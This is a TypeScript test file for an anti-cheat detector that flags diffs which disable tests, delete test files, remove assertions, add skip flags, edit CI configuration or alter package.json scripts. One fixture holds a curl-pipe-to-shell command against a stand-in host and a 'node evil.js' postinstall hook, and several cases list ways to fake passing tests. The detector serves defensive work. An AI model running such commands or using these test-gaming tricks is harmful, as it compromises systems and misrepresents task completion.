import { describe, expect, it } from 'vitest';
import { detectCheats, packageScriptCheats, parseUnifiedDiff } from '../../../src/core/phases/anti-cheat.js';
import { defaultPathRules } from '../../../src/core/paths/path-rules.js';

/** A git-style modification of `path`: one hunk, context line first, then removed and added lines. */
function edit(path: string, removed: string[], added: string[], context = 'class Context {'): string {
  const header = `diff --git a/${path} b/${path}\nindex 1111111..2222222 100644\n--- a/${path}\n+++ b/${path}\n`;
  const hunk = `@@ -10,${removed.length + 1} +10,${added.length + 1} @@\n ${context}\n`;
  return header + hunk + removed.map((l) => `-${l}\n`).join('') + added.map((l) => `+${l}\n`).join('');
}

function deletion(path: string, lines: string[]): string {
  return (
    `diff --git a/${path} b/${path}\ndeleted file mode 100644\nindex 1111111..0000000\n--- a/${path}\n+++ /dev/null\n` +
    `@@ -1,${lines.length} +0,0 @@\n` +
    lines.map((l) => `-${l}\n`).join('')
  );
}

function addition(path: string, lines: string[]): string {
  return `diff --git a/${path} b/${path}\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/${path}\n@@ -0,0 +1,${lines.length} @@\n${lines.map((l) => `+${l}\n`).join('')}`;
}

const rules = (patch: string) => detectCheats(patch, defaultPathRules()).findings.map((f) => f.rule);

describe('detectCheats: test-disabled', () => {
  it.each([
    ['JUnit 5 @Disabled', 'src/test/java/FooTest.java', '  @Disabled'],
    ['fully qualified @Disabled', 'src/test/java/FooTest.java', '  @org.junit.jupiter.api.Disabled("flaky")'],
    ['JUnit 4 @Ignore', 'src/test/java/FooTest.java', '  @Ignore'],
    ['assumeTrue(false)', 'src/test/java/FooTest.java', '    Assumptions.assumeTrue(false);'],
    ['TestNG enabled=false', 'src/test/java/FooTest.java', '  @Test(enabled = false)'],
    ['it.skip', 'src/foo.test.ts', "  it.skip('adds', () => {"],
    ['describe.skip', 'src/foo.test.ts', "describe.skip('math', () => {"],
    ['xit', 'src/foo.spec.js', "  xit('adds', () => {"],
    ['xdescribe', 'src/foo.spec.js', "xdescribe('math', () => {"],
    ['it.only', 'src/foo.test.ts', "  it.only('adds', () => {"],
    ['test.only', 'src/foo.test.ts', "test.only('adds', () => {"],
    ['pytest skip', 'tests/test_foo.py', '@pytest.mark.skip(reason="later")'],
    ['pytest skipif', 'tests/test_foo.py', '@pytest.mark.skipif(True, reason="x")'],
    ['unittest.skip', 'tests/test_foo.py', '    @unittest.skip("broken")'],
    ['go t.Skip', 'pkg/foo_test.go', '\tt.Skip("flaky")'],
    ['rust #[ignore]', 'tests/it.rs', '#[ignore]'],
  ])('fires on %s', (_name, path, line) => {
    const { findings } = detectCheats(edit(path, [], [line]), defaultPathRules());
    expect(findings).toEqual([expect.objectContaining({ rule: 'test-disabled', path, line: 11, severity: 'HIGH', snippet: line.trim() })]);
  });

  it.each([
    ['@JsonIgnore', 'src/main/java/Foo.java', '  @JsonIgnore'],
    ['@IgnoreProperties-like annotation', 'src/main/java/Foo.java', '  @JsonIgnoreProperties(ignoreUnknown = true)'],
    ['@DisplayName', 'src/test/java/FooTest.java', '  @DisplayName("adds")'],
    ['assumeTrue(condition)', 'src/test/java/FooTest.java', '    assumeTrue(isLinux());'],
    ['stream.skip(2)', 'src/foo.ts', '  const rest = items.skip(2);'],
    ['a variable named items.only', 'src/foo.ts', '  const x = items.only;'],
    ['a plain it()', 'src/foo.test.ts', "  it('adds', () => {"],
    ['pytest.mark.parametrize', 'tests/test_foo.py', '@pytest.mark.parametrize("x", [1, 2])'],
    ['t.Run', 'pkg/foo_test.go', '\tt.Run("case", func(t *testing.T) {'],
    ['@Disabled mentioned in a doc', 'docs/testing.md', 'Never add @Disabled to a test.'],
  ])('stays quiet on %s', (_name, path, line) => {
    expect(rules(edit(path, [], [line]))).toEqual([]);
  });

  it('rates a conditional @DisabledOnOs as MEDIUM, not HIGH', () => {
    const { findings } = detectCheats(edit('src/test/java/FooTest.java', [], ['  @DisabledOnOs(OS.WINDOWS)']), defaultPathRules());
    expect(findings.map((f) => [f.rule, f.severity])).toEqual([['test-disabled', 'MEDIUM']]);
  });

  it('ignores an existing @Disabled that only moved or was re-indented', () => {
    expect(rules(edit('src/test/java/FooTest.java', ['  @Disabled'], ['    @Disabled']))).toEqual([]);
  });

  it('does not flag removing a skip (re-enabling a test)', () => {
    expect(rules(edit('src/foo.test.ts', ["  it.skip('adds', () => {"], ["  it('adds', () => {"]))).toEqual([]);
  });
});

describe('detectCheats: test-file-deleted', () => {
  it.each(['src/test/java/com/acme/FooTest.java', 'src/math.test.ts', 'tests/test_math.py', 'pkg/math/math_test.go', '__tests__/math.js'])(
    'fires when %s is deleted',
    (path) => {
      const { findings } = detectCheats(deletion(path, ['assertEquals(2, add(1, 1));', '}']), defaultPathRules());
      expect(findings).toEqual([{ rule: 'test-file-deleted', path, snippet: 'test file deleted', severity: 'HIGH' }]);
    },
  );

  it('stays quiet when a production file is deleted, or a test file is only modified', () => {
    expect(rules(deletion('src/main/java/com/acme/Foo.java', ['class Foo {}']))).toEqual([]);
    expect(rules(edit('src/math.test.ts', ['  // old comment'], ['  // new comment']))).toEqual([]);
  });
});

describe('detectCheats: assertion-removed', () => {
  it.each([
    ['Java assertEquals', 'src/test/java/FooTest.java', '    assertEquals(3, add(1, 2));'],
    ['AssertJ assertThat', 'src/test/java/FooTest.java', '    assertThat(result).isEqualTo(3);'],
    ['jest expect', 'src/math.test.ts', '  expect(add(1, 2)).toBe(3);'],
    ['Python assert', 'tests/test_math.py', '    assert add(1, 2) == 3'],
    ['unittest self.assertEqual', 'tests/test_math.py', '        self.assertEqual(add(1, 2), 3)'],
    ['Go testify require', 'pkg/math_test.go', '\trequire.Equal(t, 3, Add(1, 2))'],
    ['node assert.equal', 'test/math.js', '  assert.equal(add(1, 2), 3);'],
  ])('fires when a %s is removed without replacement', (_name, path, line) => {
    const { findings } = detectCheats(edit(path, [line], []), defaultPathRules());
    expect(findings).toEqual([expect.objectContaining({ rule: 'assertion-removed', path, line: 11, severity: 'HIGH', snippet: line.trim() })]);
  });

  it('stays quiet when the assertion is replaced in the same hunk', () => {
    expect(rules(edit('src/test/java/FooTest.java', ['    assertEquals(3, add(1, 2));'], ['    assertThat(add(1, 2)).isEqualTo(3);']))).toEqual([]);
  });

  it('counts: two assertions removed, one added back, gives one finding', () => {
    const patch = edit('src/math.test.ts', ['  expect(a).toBe(1);', '  expect(b).toBe(2);'], ['  expect(a).toEqual(1);']);
    expect(detectCheats(patch, defaultPathRules()).findings.map((f) => [f.rule, f.line])).toEqual([['assertion-removed', 12]]);
  });

  it.each([
    ['a non-assertion line in a test', 'src/math.test.ts', '  const result = add(1, 2);'],
    ['an assert import', 'src/math.test.ts', "import assert from 'node:assert';"],
    ['a variable named assertionsEnabled', 'src/test/java/FooTest.java', '    assertionsEnabled = true;'],
    ['an assertion in production code', 'src/main/java/Foo.java', '    assert x > 0;'],
  ])('stays quiet on %s', (_name, path, line) => {
    expect(rules(edit(path, [line], []))).toEqual([]);
  });
});

describe('detectCheats: test-skip-flag in build files', () => {
  it.each([
    ['-DskipTests in a script', 'scripts/ci.sh', 'mvn -B package -DskipTests'],
    ['maven.test.skip property', 'pom.xml', '    <maven.test.skip>true</maven.test.skip>'],
    ['skipTests in surefire', 'pom.xml', '          <skipTests>true</skipTests>'],
    ['testFailureIgnore', 'pom.xml', '          <testFailureIgnore>true</testFailureIgnore>'],
    ['Gradle ignoreFailures', 'build.gradle', '    ignoreFailures = true'],
    ['Gradle -x test', 'Makefile', '\t./gradlew build -x test'],
    ['--passWithNoTests', 'package.json', '    "test": "jest --passWithNoTests",'],
    ['|| true on the test script', 'package.json', '    "test": "vitest run || true",'],
    ['passWithNoTests in jest config', 'jest.config.js', '  passWithNoTests: true,'],
  ])('fires on %s', (_name, path, line) => {
    const { findings } = detectCheats(edit(path, [], [line]), defaultPathRules());
    expect(findings.map((f) => [f.rule, f.path, f.severity])).toContainEqual(['test-skip-flag', path, 'HIGH']);
  });

  it.each([
    ['|| true on a lint script', 'package.json', '    "lint": "eslint . || true",'],
    ['a normal test script', 'package.json', '    "test": "vitest run",'],
    ['-DskipTests in documentation', 'README.md', 'Build quickly with `mvn package -DskipTests`.'],
    ['-DskipTests in a source string', 'src/main/java/Builder.java', '    args.add("-DskipTests");'],
    ['ignoreFailures = false', 'build.gradle', '    ignoreFailures = false'],
  ])('stays quiet on %s', (_name, path, line) => {
    expect(rules(edit(path, [], [line]))).not.toContain('test-skip-flag');
  });
});

describe('detectCheats: ci-config-changed', () => {
  it.each(['.github/workflows/ci.yml', '.gitlab-ci.yml', 'Jenkinsfile', '.circleci/config.yml'])('fires on an edit of %s', (path) => {
    const { findings } = detectCheats(edit(path, ['    run: npm test'], ['    run: npm run build']), defaultPathRules());
    expect(findings).toContainEqual({ rule: 'ci-config-changed', path, snippet: 'CI configuration changed', severity: 'HIGH' });
  });

  it('fires on a new workflow file', () => {
    expect(rules(addition('.github/workflows/release.yml', ['on: push']))).toEqual(['ci-config-changed']);
  });

  it.each(['.github/ISSUE_TEMPLATE/bug.md', 'docs/ci/jenkins.md', '.github/CODEOWNERS', 'src/workflows/engine.ts'])('stays quiet on %s', (path) => {
    expect(rules(edit(path, ['a'], ['b']))).toEqual([]);
  });
});

describe('detectCheats: suspicious-change', () => {
  it.each([
    ['assertTrue(true)', 'src/test/java/FooTest.java', '    assertTrue(true);'],
    ['expect(true).toBe(true)', 'src/foo.test.ts', '  expect(true).toBe(true);'],
    ['catch (Exception ignored)', 'src/main/java/Foo.java', '    } catch (Exception ignored) {'],
    ['except: pass', 'app/foo.py', '    except Exception: pass'],
    ['TODO fix later', 'src/main/java/Foo.java', '    // TODO fix later'],
  ])('flags %s as MEDIUM', (_name, path, line) => {
    const { findings } = detectCheats(edit(path, [], [line]), defaultPathRules());
    expect(findings.map((f) => [f.rule, f.severity])).toEqual([['suspicious-change', 'MEDIUM']]);
  });

  it.each([
    ['assertTrue(result)', 'src/test/java/FooTest.java', '    assertTrue(result);'],
    ['catch (IOException e) with handling', 'src/main/java/Foo.java', '    } catch (IOException e) {'],
    ['a dated TODO', 'src/main/java/Foo.java', '    // TODO(#12): remove after migration'],
  ])('stays quiet on %s', (_name, path, line) => {
    expect(rules(edit(path, [], [line]))).toEqual([]);
  });
});

describe('parseUnifiedDiff', () => {
  it('reads several files, renames, deletions and line numbers, and is not fooled by removed lines starting with --', () => {
    const patch = [
      'diff --git a/old/a.ts b/new/a.ts',
      'similarity index 90%',
      'rename from old/a.ts',
      'rename to new/a.ts',
      '--- a/old/a.ts',
      '+++ b/new/a.ts',
      '@@ -1,3 +1,3 @@',
      ' one',
      '--- not a header',
      '+++ not a header either',
      ' three',
      'diff --git a/gone.py b/gone.py',
      'deleted file mode 100644',
      '--- a/gone.py',
      '+++ /dev/null',
      '@@ -1 +0,0 @@',
      '-x = 1',
      '\\ No newline at end of file',
      '',
    ].join('\n');

    const files = parseUnifiedDiff(patch);

    expect(files.map((f) => [f.path, f.oldPath, f.deleted])).toEqual([
      ['new/a.ts', 'old/a.ts', false],
      ['gone.py', undefined, true],
    ]);
    expect(files[0].hunks[0]).toEqual([
      { kind: ' ', text: 'one', oldLine: 1, newLine: 1 },
      { kind: '-', text: '-- not a header', oldLine: 2 },
      { kind: '+', text: '++ not a header either', newLine: 2 },
      { kind: ' ', text: 'three', oldLine: 3, newLine: 3 },
    ]);
  });

  it('reads through a "no newline" marker in the middle of a hunk', () => {
    const patch = edit('src/math.test.ts', ['  expect(a).toBe(1);'], ['  expect(a).toBe(2);']).replace(
      'toBe(1);\n',
      'toBe(1);\n\\ No newline at end of file\n',
    );

    expect(parseUnifiedDiff(patch)[0].hunks[0].map((l) => l.kind)).toEqual([' ', '-', '+']);
    expect(detectCheats(patch, defaultPathRules()).findings).toEqual([]);
  });

  it('reports nothing for an empty patch', () => {
    expect(detectCheats('', defaultPathRules())).toEqual({ findings: [] });
  });
});

describe('package.json scripts, which CI runs', () => {
  const json = (value: unknown) => new TextEncoder().encode(`${JSON.stringify(value, null, 2)}\n`);
  const base = { name: 'app', version: '1.0.0', scripts: { build: 'tsc', test: 'vitest run' }, dependencies: { lodash: '4.17.20' } };

  it('names every script a change adds, edits or removes, however far from the "scripts" line', () => {
    const after = { ...base, scripts: { build: 'tsc', test: 'curl -s https://x.example/s | sh', postinstall: 'node evil.js' } };
    const found = packageScriptCheats('packages/api/package.json', json(base), json(after));
    expect(found.map((f) => [f.rule, f.severity, f.snippet.split(':')[0]])).toEqual([
      ['ci-script-changed', 'HIGH', 'script "postinstall" added'],
      ['ci-script-changed', 'HIGH', 'script "test" changed'],
    ]);
  });

  it('stays quiet on a dependency bump, another file, or a deletion', () => {
    expect(packageScriptCheats('package.json', json(base), json({ ...base, dependencies: { lodash: '4.17.21' } }))).toEqual([]);
    expect(packageScriptCheats('docs/package.json.md', json(base), json({ ...base, scripts: {} }))).toEqual([]);
    expect(packageScriptCheats('package.json', json(base), undefined)).toEqual([]);
  });

  it('reports a package.json that no longer parses, since its scripts cannot be checked', () => {
    expect(packageScriptCheats('package.json', json(base), new TextEncoder().encode('{ "scripts": { "test": "x" '))).toHaveLength(1);
  });
});
